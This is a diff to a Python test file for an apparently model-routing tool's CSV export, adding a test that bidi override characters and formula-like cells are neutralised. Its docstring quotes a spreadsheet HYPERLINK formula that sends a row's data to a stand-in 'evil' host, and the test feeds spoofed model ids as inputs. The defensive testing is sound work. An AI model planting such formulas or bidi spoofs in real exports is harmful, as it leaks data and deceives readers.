@@ -6,12 +6,17 @@ and Google Sheets: `=HYPERLINK("http://evil/?"&A1,"open")` sends a row's data aw
 is whatever an upstream's listing says (any printable text), and a tenant named before names
 were checked keeps its name. Those cells were written as they came; each text cell that a
 spreadsheet would read as a formula now starts with an apostrophe (OWASP's advice), which the
-spreadsheet shows as text and drops. Numbers and the JSON columns are untouched."""
+spreadsheet shows as text and drops. Numbers and the JSON columns are untouched.
+
+Eleventh session: a bidi control in such text (U+202E RIGHT-TO-LEFT OVERRIDE...) reordered how
+its cell reads, so a model id could pass for another; a text cell now shows each as a visible
+mark (⟨U+202E⟩, as the dashboard does) and the JSON columns escape it (the same JSON value)."""
 
 from __future__ import annotations
 
 import csv
 import io
+import json
 import time
 from pathlib import Path
 
@@ -68,3 +73,23 @@ def test_exported_csv_cells_are_never_formulas(tmp_path: Path) -> None:
     for column, cell in row.items():
         assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (column, cell)
         assert not (cell.startswith("-") and column != "cost_usd"), (column, cell)
+
+
+def test_exported_csv_cells_show_bidi_controls_instead_of_applying_them(tmp_path: Path) -> None:
+    spoof = "gpt-4o\u202eini-m\u202c"  # reads "gpt-4om-ini" with the override applied
+    store = open_store(f"sqlite:///{tmp_path / 'arbiter.db'}")
+    try:
+        store.migrate()
+        store.write([_decision(spoof, "t\u2067x\u2069", "\u202e=1+1\u200f\u061c", 0.001)])
+        out = io.StringIO()
+        assert export(store, 0.0, "csv", out) == 1
+    finally:
+        store.close()
+    text = out.getvalue()
+    for control in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
+        assert control not in text
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["chosen_model"] == "gpt-4o⟨U+202E⟩ini-m⟨U+202C⟩"
+    assert row["tenant"] == "t⟨U+2067⟩x⟨U+2069⟩"
+    assert row["error"] == "⟨U+202E⟩=1+1⟨U+200F⟩⟨U+061C⟩"  # shown as text: no formula
+    assert json.loads(row["candidates"])[0]["model"] == spoof  # escaped JSON: the same value
